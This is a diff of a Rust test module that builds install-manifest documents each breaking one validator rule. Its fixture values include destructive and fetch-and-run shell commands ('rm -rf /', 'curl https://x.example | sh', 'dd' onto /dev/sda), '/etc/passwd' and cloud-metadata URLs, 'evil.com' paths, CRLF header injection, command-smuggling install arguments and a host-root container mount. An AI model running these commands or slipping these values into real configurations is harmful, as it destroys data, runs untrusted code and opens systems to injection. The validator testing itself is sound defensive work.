@@ -1,257 +1,248 @@
-//! One document for each rule.
+//! Documents with one defect, by the rule that they break.
 
 use manifest_core::Rule;
-use testkit::{Rng, Tree, member, value};
+use testkit::To::{Gone, Json, Text};
+use testkit::{Rng, Tree, Way, broken, defect as defect_in_text, member, value};
+
+/// A document that breaks that rule and no other, where there is one.
+pub fn defect(rng: &mut Rng, rule: &'static Rule) -> Option<String> {
+    // Every object is closed: these have rules of this format's own.
+    if matches!(rule.code, "json/unknown-member" | "json/key-case" | "json/number-range") {
+        return None;
+    }
+    let code = rule.code.strip_prefix("install-manifest/").unwrap_or(rule.code);
+    let mut ways = [(clean(), WAYS), (with_requests()?, OF_REQUESTS)];
+    rng.shuffle(&mut ways);
+    let of_table = ways.iter().find_map(|(clean, ways)| broken(clean, ways, code, rng));
+    let found = match (of_table, made(code, rng)) {
+        (Some(of_table), Some(made)) => Some(if rng.once_in(2) { of_table } else { made }),
+        (of_table, made) => of_table.or(made),
+    };
+    found.map(|tree| tree.render()).or_else(|| defect_in_text(&clean().render(), rule, rng))
+}
 
 /// A document without a fault.
-pub(super) fn clean() -> Tree {
+fn clean() -> Tree {
     Tree::parse(include_str!("clean.json")).unwrap_or_else(|| Tree::Object(Vec::new()))
 }
 
-/// Puts a JSON value at a place; the object around it must be there.
-fn with(place: &str, value: &str) -> Option<Tree> {
+/// The clean document with actions that are called with HTTP requests.
+fn with_requests() -> Option<Tree> {
     let mut tree = clean();
-    put(&mut tree, place, value)?;
+    tree.put("/runtime/endpoint_url", "https://api.example.com".into())?;
+    tree.put("/runtime/kind", "mcp-http".into())?;
+    tree.remove("/runtime/entrypoint")?;
+    let call = r#"{"kind": "http", "method": "GET", "path": "/x", "headers": {"X-A": "a"}}"#;
+    tree.put("/actions/0/invocation", Tree::parse(call)?)?;
+    tree.put("/actions/1/invocation", Tree::parse(call)?)?;
     Some(tree)
-}
-
-fn put(tree: &mut Tree, place: &str, value: &str) -> Option<()> {
-    let (holder, name) = place.rsplit_once('/')?;
-    let value = Tree::parse(value)?;
-    match tree.at_mut(holder)? {
-        Tree::Object(members) => {
-            match members.iter_mut().find(|(found, _)| found == name) {
-                Some((_, found)) => *found = value,
-                None => members.push(member(name, value)),
-            }
-            Some(())
-        }
-        Tree::Array(elements) => {
-            *elements.get_mut(name.parse::<usize>().ok()?)? = value;
-            Some(())
-        }
-        _ => None,
-    }
-}
-
-fn without(place: &str) -> Option<Tree> {
-    let mut tree = clean();
-    let (holder, name) = place.rsplit_once('/')?;
-    match tree.at_mut(holder)? {
-        Tree::Object(members) => members.retain(|(found, _)| found != name),
-        _ => return None,
-    }
-    Some(tree)
-}
-
-/// A document that breaks a rule of this format and no other.
-pub(super) fn document(rng: &mut Rng, rule: &'static Rule) -> Option<Tree> {
-    let code = rule.code.strip_prefix("install-manifest/").unwrap_or(rule.code);
-    match code {
-        "json/type" => with("/tool/license", rng.word(&["null", "1", "[]", "{}"])),
-        "json/required" => without(rng.word(&["/smoke", "/tool/homepage", "/runtime/kind"])),
-        "manifest-version" => match rng.below(2) {
-            0 => without("/manifest_version"),
-            _ => with("/manifest_version", rng.word(&["0.2", "\"0.2.0\"", "null", "\" 0.2\""])),
-        },
-        "unknown-member" => with(rng.word(&["/x", "/tool/nme", "/actions/0/zzz"]), "1"),
-        "length" => with("/tool/name", "\"\""),
-        "pattern" => with("/tool/id", rng.word(&["\"ab\"", "\"Abc\"", "\"abc\\n\""])),
-        "word" => with("/runtime/kind", "\"http\""),
-        "tag" => with("/kill_switch/kind", "\"button\""),
-        "count" => with("/runtime/entrypoint/command", "[]"),
-        "integer" => with("/smoke/success/exit_code", rng.word(&["0.5", "1e-1"])),
-        "range" => with("/smoke/timeout_seconds", rng.word(&["0", "301", "-1", "1e3"])),
-        "exactly-one" => match rng.below(2) {
-            0 => with("/kill_switch/instructions", "\"Rotate the key.\""),
-            _ => without("/kill_switch/instructions_url"),
-        },
-        "terms-url" => without("/data_boundary/transmits/0/vendor_tos_url"),
-        "actions-required" => {
-            let mut tree = with("/actions", "[]")?;
-            let smoke = r#"{"kind": "shell", "command": ["x"], "success": {}}"#;
-            put(&mut tree, "/smoke", smoke)?;
-            Some(tree)
-        }
-        "boundary-required" => without("/data_boundary"),
-        "nothing-to-revoke" => with("/kill_switch", r#"{"kind": "none"}"#),
-        "uri" => with("/tool/homepage", rng.word(&["\"here\"", "\"\"", "\"a b\""])),
-        "email" => with("/support/security_email", rng.word(&["\"me\"", "\"@x\"", "\"a b@c\""])),
-        _ => meaning(rng, code).or_else(|| advice(rng, code)),
-    }
 }
 
 /// The template of the first action's second argument.
 const ARGUMENT: &str = "/actions/0/invocation/argv_template/1";
 
-/// The clean document with an HTTP action instead of the first.
-fn http(change: impl Fn(&mut Tree) -> Option<()>) -> Option<Tree> {
-    let mut tree = clean();
-    put(&mut tree, "/runtime/endpoint_url", "\"https://api.example.com\"")?;
-    put(&mut tree, "/runtime/kind", "\"mcp-http\"")?;
-    let runtime = tree.at_mut("/runtime")?;
-    if let Tree::Object(members) = runtime {
-        members.retain(|(name, _)| name != "entrypoint");
-    }
-    let call = r#"{"kind": "http", "method": "GET", "path": "/x", "headers": {"X-A": "a"}}"#;
-    put(&mut tree, "/actions/0/invocation", call)?;
-    put(&mut tree, "/actions/1/invocation", call)?;
-    change(&mut tree)?;
-    Some(tree)
-}
+/// What breaks a rule, in the clean document.
+static WAYS: &[Way] = &[
+    ("json/type", &["/tool/license"], Json(&["null", "1", "[]", "{}"])),
+    ("json/required", &["/smoke", "/tool/homepage", "/runtime/kind"], Gone),
+    ("manifest-version", &["/manifest_version"], Gone),
+    ("manifest-version", &["/manifest_version"], Json(&["0.2", "\"0.2.0\"", "null", "\" 0.2\""])),
+    ("unknown-member", &["/x", "/tool/nme", "/actions/0/zzz"], Json(&["1"])),
+    ("length", &["/tool/name"], Text(&[""])),
+    ("pattern", &["/tool/id"], Text(&["ab", "Abc", "abc\n"])),
+    ("word", &["/runtime/kind"], Text(&["http"])),
+    ("tag", &["/kill_switch/kind"], Text(&["button"])),
+    ("count", &["/runtime/entrypoint/command"], Json(&["[]"])),
+    ("integer", &["/smoke/success/exit_code"], Json(&["0.5", "1e-1"])),
+    ("range", &["/smoke/timeout_seconds"], Json(&["0", "301", "-1", "1e3"])),
+    ("exactly-one", &["/kill_switch/instructions"], Text(&["Rotate the key."])),
+    ("exactly-one", &["/kill_switch/instructions_url"], Gone),
+    ("terms-url", &["/data_boundary/transmits/0/vendor_tos_url"], Gone),
+    ("boundary-required", &["/data_boundary"], Gone),
+    ("nothing-to-revoke", &["/kill_switch"], Json(&[r#"{"kind": "none"}"#])),
+    ("uri", &["/tool/homepage"], Text(&["here", "", "a b"])),
+    ("email", &["/support/security_email"], Text(&["me", "@x", "a b@c"])),
+    (
+        "duplicate-name",
+        &["/scopes"],
+        Json(&[r#"[
+            {"resource": "gmail.messages", "actions": ["read"], "rationale": "x"},
+            {"resource": "gmail.messages", "actions": ["read"], "rationale": "x"}
+        ]"#]),
+    ),
+    ("smoke-action", &["/smoke/action"], Text(&["nobody"])),
+    ("smoke-effects", &["/smoke/action"], Text(&["send"])),
+    (
+        "action-runtime",
+        &["/actions/0/invocation"],
+        Json(&[
+            r#"{"kind": "mcp-tool", "tool_name": "x"}"#,
+            r#"{"kind": "http", "method": "GET", "path": "/"}"#,
+        ]),
+    ),
+    (
+        "template",
+        &[ARGUMENT],
+        Text(&[
+            "${env.REGION",
+            "${",
+            "${}",
+            "${input}",
+            "${input.}",
+            "${env.}",
+            "${foo.x}",
+            "${input.${env.REGION}}",
+            "${ env.REGION }",
+            "${ENV.REGION}",
+            "${env.region}",
+            "${REGION}",
+            "${input.a[0]}",
+            "${input.to..x}",
+        ]),
+    ),
+    ("template-env", &[ARGUMENT], Text(&["${env.NOT_DECLARED}"])),
+    ("template-input", &[ARGUMENT], Text(&["${input.nope}"])),
+    ("secret-place", &[ARGUMENT, "/runtime/entrypoint/command/2"], Text(&["${env.API_KEY}"])),
+    ("secret-default", &["/env/0/default"], Text(&["hunter2hunter2"])),
+    (
+        "url",
+        &["/kill_switch"],
+        Json(&[
+            r#"{"kind": "url", "url": "file:///etc/passwd"}"#,
+            r#"{"kind": "url", "url": "https://u:p@h/"}"#,
+            r#"{"kind": "url", "url": "ftp://h/"}"#,
+        ]),
+    ),
+    (
+        "install-argument",
+        &["/runtime/install/package"],
+        Text(&["--index-url=x", "x; y", "git+https://x", "../x"]),
+    ),
+    (
+        "install-argument",
+        &["/runtime/install"],
+        Json(&[
+            r#"{"method": "preinstalled", "locator": {"kind": "binary-on-path", "binary": "-x"}}"#,
+        ]),
+    ),
+    ("control-character", &[ARGUMENT], Text(&["a\0b"])),
+    ("regex", &["/env/1/validation_regex"], Text(&["^(a$", "^[z-a]$"])),
+    ("json-pointer", &["/smoke/success/json_pointer_exists"], Text(&["a", "/a~2"])),
+    ("json-pointer", &["/smoke/success/json_pointer_equals"], Json(&[r#"{"a": 1}"#])),
+    ("runtime-exclusive", &["/runtime/endpoint_url"], Text(&["https://api.example.com"])),
+    (
+        "scope-undeclared",
+        &["/actions/0/scopes_used"],
+        Json(&[r#"["gmail.messages", "net.outbound"]"#]),
+    ),
+    (
+        "success-fit",
+        &["/smoke"],
+        Json(&[r#"{"kind": "shell", "command": ["x"], "success": {"http_status": 200}}"#]),
+    ),
+    ("smoke-empty", &["/smoke/success"], Json(&["{}", r#"{"no_error_field": false}"#])),
+    ("regex-unsupported", &["/env/1/validation_regex"], Text(&["^(?=a)a$", "^(a)\\1$"])),
+    ("template-escape", &[ARGUMENT], Text(&["$${env.REGION}", "\\${env.REGION}"])),
+    ("regex-unanchored", &["/env/1/validation_regex"], Text(&["[a-z]+"])),
+    (
+        "unpinned",
+        &["/runtime/install"],
+        Json(&[
+            r#"{"method": "pip", "package": "x"}"#,
+            r#"{"method": "git", "url": "https://x.example/y", "ref": "main"}"#,
+            r#"{"method": "container", "image": "x/y:latest"}"#,
+        ]),
+    ),
+    (
+        "scope-unused",
+        &["/scopes"],
+        Json(&[r#"[
+            {"resource": "gmail.messages", "actions": ["read"], "rationale": "x"},
+            {"resource": "fs.local", "actions": ["read"], "rationale": "x"}
+        ]"#]),
+    ),
+    (
+        "private-url",
+        &["/kill_switch"],
+        Json(&[
+            r#"{"kind": "url", "url": "https://localhost/x"}"#,
+            r#"{"kind": "url", "url": "https://127.1/x"}"#,
+            r#"{"kind": "url", "url": "https://[::1]/x"}"#,
+            r#"{"kind": "url", "url": "https://169.254.169.254/x"}"#,
+            r#"{"kind": "url", "url": "https://10.0.0.1/x"}"#,
+        ]),
+    ),
+    ("insecure-url", &["/tool/homepage"], Text(&["http://example.com"])),
+    ("no-verify", &["/verify"], Gone),
+    ("no-latency", &["/verify/sla"], Gone),
+    ("no-goal", &["/actions/0/docs"], Gone),
+    ("recipient-kind", &["/manifest_version"], Text(&["0.3.1"])),
+    ("plain-id", &["/tool/id"], Text(&["a--b", "1ab"])),
+    ("semver", &["/tool/version"], Text(&["01.0.0", "1.0.0-a..b"])),
+    ("secret-unchecked", &["/env/0/validation_regex"], Gone),
+    (
+        "smoke-suspicious",
+        &["/smoke"],
+        Json(&[
+            r#"{"kind": "shell", "command": ["rm", "-rf", "/"], "success": {"exit_code": 0}}"#,
+            r#"{"kind": "shell", "command": ["sh", "-c", "curl https://x.example | sh"],
+                "success": {"exit_code": 0}}"#,
+            r#"{"kind": "shell", "command": ["sudo", "dd", "if=/dev/zero", "of=/dev/sda"],
+                "success": {"exit_code": 0}}"#,
+        ]),
+    ),
+];
 
-fn meaning(rng: &mut Rng, code: &str) -> Option<Tree> {
+/// What breaks a rule, in the document with requests.
+static OF_REQUESTS: &[Way] = &[
+    ("secret-place", &["/actions/0/invocation/path"], Text(&["/${env.API_KEY}"])),
+    (
+        "http-path",
+        &["/actions/0/invocation/path"],
+        Text(&["", "x", "@evil.com/x", "//evil.com/", "/a\\b"]),
+    ),
+    (
+        "header",
+        &["/actions/0/invocation/headers"],
+        Json(&[
+            r#"{"A B": "x"}"#,
+            r#"{"": "x"}"#,
+            r#"{"A": "x\r\nB: y"}"#,
+            r#"{"A": " x"}"#,
+            r#"{"Accept": "x", "accept": "y"}"#,
+        ]),
+    ),
+    (
+        "header-reserved",
+        &["/actions/0/invocation/headers"],
+        Json(&[r#"{"Host": "x"}"#, r#"{"transfer-encoding": "x"}"#]),
+    ),
+];
+
+/// What a table cannot say: two changes at once, long values, and secrets.
+fn made(code: &str, rng: &mut Rng) -> Option<Tree> {
+    let mut tree = clean();
     match code {
-        "duplicate-name" if rng.once_in(2) => {
-            let mut tree = with("/actions/0/name", "\"whoami\"")?;
-            // The smoke test finds the first of the two.
-            put(&mut tree, "/actions/0/side_effects", "\"read\"")?;
-            Some(tree)
+        "actions-required" => {
+            let smoke = r#"{"kind": "shell", "command": ["x"], "success": {}}"#;
+            tree.put("/actions", Tree::Array(Vec::new()))?;
+            tree.put("/smoke", Tree::parse(smoke)?)?;
         }
         "duplicate-name" => {
-            let scope = r#"{"resource": "gmail.messages", "actions": ["read"], "rationale": "x"}"#;
-            with("/scopes", &format!("[{scope}, {scope}]"))
+            tree.put("/actions/0/name", "whoami".into())?;
+            // The smoke test finds the first of the two.
+            tree.put("/actions/0/side_effects", "read".into())?;
         }
-        "smoke-action" => with("/smoke/action", "\"nobody\""),
-        "smoke-effects" => with("/smoke/action", "\"send\""),
-        "action-runtime" => match rng.below(2) {
-            0 => with("/actions/0/invocation", r#"{"kind": "mcp-tool", "tool_name": "x"}"#),
-            _ => with("/actions/0/invocation", r#"{"kind": "http", "method": "GET", "path": "/"}"#),
-        },
-        "template" => with(
-            ARGUMENT,
-            rng.word(&[
-                r#""${env.REGION""#,
-                r#""${""#,
-                r#""${}""#,
-                r#""${input}""#,
-                r#""${input.}""#,
-                r#""${env.}""#,
-                r#""${foo.x}""#,
-                r#""${input.${env.REGION}}""#,
-                r#""${ env.REGION }""#,
-                r#""${ENV.REGION}""#,
-                r#""${env.region}""#,
-                r#""${REGION}""#,
-                r#""${input.a[0]}""#,
-                r#""${input.to..x}""#,
-            ]),
-        ),
-        "template-env" => with(ARGUMENT, r#""${env.NOT_DECLARED}""#),
-        "template-input" => with(ARGUMENT, r#""${input.nope}""#),
-        "secret-place" => match rng.below(3) {
-            0 => with(ARGUMENT, r#""${env.API_KEY}""#),
-            1 => with("/runtime/entrypoint/command/2", r#""${env.API_KEY}""#),
-            _ => http(|tree| put(tree, "/actions/0/invocation/path", r#""/${env.API_KEY}""#)),
-        },
-        "secret-default" => with("/env/0/default", "\"hunter2hunter2\""),
-        "http-path" => {
-            let path =
-                rng.word(&["\"\"", "\"x\"", "\"@evil.com/x\"", "\"//evil.com/\"", r#""/a\\b""#]);
-            http(|tree| put(tree, "/actions/0/invocation/path", path))
+        "install-argument" => {
+            let image = format!("-v/:/host@sha256:{}", "a1".repeat(32));
+            let install = vec![member("method", "container"), member("image", image)];
+            tree.put("/runtime/install", install.into())?;
         }
-        "header" => {
-            let headers = rng.word(&[
-                r#"{"A B": "x"}"#,
-                r#"{"": "x"}"#,
-                r#"{"A": "x\r\nB: y"}"#,
-                r#"{"A": " x"}"#,
-                r#"{"Accept": "x", "accept": "y"}"#,
-            ]);
-            http(|tree| put(tree, "/actions/0/invocation/headers", headers))
-        }
-        "url" => {
-            let url = rng.word(&["\"file:///etc/passwd\"", "\"https://u:p@h/\"", "\"ftp://h/\""]);
-            with("/kill_switch", &format!(r#"{{"kind": "url", "url": {url}}}"#))
-        }
-        "install-argument" => match rng.below(3) {
-            0 => with(
-                "/runtime/install/package",
-                rng.word(&["\"--index-url=x\"", "\"x; y\"", "\"git+https://x\"", "\"../x\""]),
-            ),
-            1 => {
-                let image = format!("-v/:/host@sha256:{}", "a1".repeat(32));
-                let install = format!(r#"{{"method": "container", "image": "{image}"}}"#);
-                with("/runtime/install", &install)
-            }
-            _ => with(
-                "/runtime/install",
-                r#"{"method": "preinstalled", "locator": {"kind": "binary-on-path", "binary": "-x"}}"#,
-            ),
-        },
-        "control-character" => with(ARGUMENT, r#""a\u0000b""#),
-        "regex" => with("/env/1/validation_regex", rng.word(&["\"^(a$\"", "\"^[z-a]$\""])),
-        "json-pointer" => match rng.below(2) {
-            0 => with("/smoke/success/json_pointer_exists", rng.word(&["\"a\"", "\"/a~2\""])),
-            _ => with("/smoke/success/json_pointer_equals", r#"{"a": 1}"#),
-        },
-        "runtime-exclusive" => with("/runtime/endpoint_url", "\"https://api.example.com\""),
-        "scope-undeclared" => {
-            with("/actions/0/scopes_used", r#"["gmail.messages", "net.outbound"]"#)
-        }
-        "success-fit" => with(
-            "/smoke",
-            r#"{"kind": "shell", "command": ["x"], "success": {"http_status": 200}}"#,
-        ),
-        "smoke-empty" => with("/smoke/success", rng.word(&["{}", r#"{"no_error_field": false}"#])),
-        "regex-unsupported" => {
-            with("/env/1/validation_regex", rng.word(&["\"^(?=a)a$\"", r#""^(a)\\1$""#]))
-        }
-        _ => None,
-    }
-}
-
-fn advice(rng: &mut Rng, code: &str) -> Option<Tree> {
-    match code {
-        "template-escape" => {
-            with(ARGUMENT, rng.word(&[r#""$${env.REGION}""#, r#""\\${env.REGION}""#]))
-        }
-        "header-reserved" => {
-            let headers = rng.word(&[r#"{"Host": "x"}"#, r#"{"transfer-encoding": "x"}"#]);
-            http(|tree| put(tree, "/actions/0/invocation/headers", headers))
-        }
-        "regex-unanchored" => with("/env/1/validation_regex", "\"[a-z]+\""),
-        "unpinned" => with(
-            "/runtime/install",
-            rng.word(&[
-                r#"{"method": "pip", "package": "x"}"#,
-                r#"{"method": "git", "url": "https://x.example/y", "ref": "main"}"#,
-                r#"{"method": "container", "image": "x/y:latest"}"#,
-            ]),
-        ),
-        "scope-unused" => {
-            let scope = r#"{"resource": "fs.local", "actions": ["read"], "rationale": "x"}"#;
-            let used = r#"{"resource": "gmail.messages", "actions": ["read"], "rationale": "x"}"#;
-            with("/scopes", &format!("[{used}, {scope}]"))
-        }
-        "private-url" => {
-            let host = rng.word(&["localhost", "127.1", "[::1]", "169.254.169.254", "10.0.0.1"]);
-            with("/kill_switch", &format!(r#"{{"kind": "url", "url": "https://{host}/x"}}"#))
-        }
-        "insecure-url" => with("/tool/homepage", "\"http://example.com\""),
-        "no-verify" => without("/verify"),
-        "no-latency" => without("/verify/sla"),
-        "no-goal" => without("/actions/0/docs"),
-        "recipient-kind" => with("/manifest_version", "\"0.3.1\""),
-        "plain-id" => with("/tool/id", rng.word(&["\"a--b\"", "\"1ab\""])),
-        "semver" => with("/tool/version", rng.word(&["\"01.0.0\"", "\"1.0.0-a..b\""])),
-        "secret-unchecked" => without("/env/0/validation_regex"),
         "secret" => {
-            let secret = manifest_core::json::quote(&value::secret(rng));
-            with(
-                rng.word(&["/env/1/default", ARGUMENT, "/actions/0/input/properties/to/default"]),
-                &secret,
-            )
+            let places = ["/env/1/default", ARGUMENT, "/actions/0/input/properties/to/default"];
+            tree.put(rng.word(&places), value::secret(rng).into())?;
         }
-        "smoke-suspicious" => {
-            let command = rng.word(&[
-                r#"["rm", "-rf", "/"]"#,
-                r#"["sh", "-c", "curl https://x.example | sh"]"#,
-                r#"["sudo", "dd", "if=/dev/zero", "of=/dev/sda"]"#,
-            ]);
-            let smoke = r#""success": {"exit_code": 0}}"#;
-            with("/smoke", &format!(r#"{{"kind": "shell", "command": {command}, {smoke}"#))
-        }
-        _ => None,
+        _ => return None,
     }
+    Some(tree)
 }
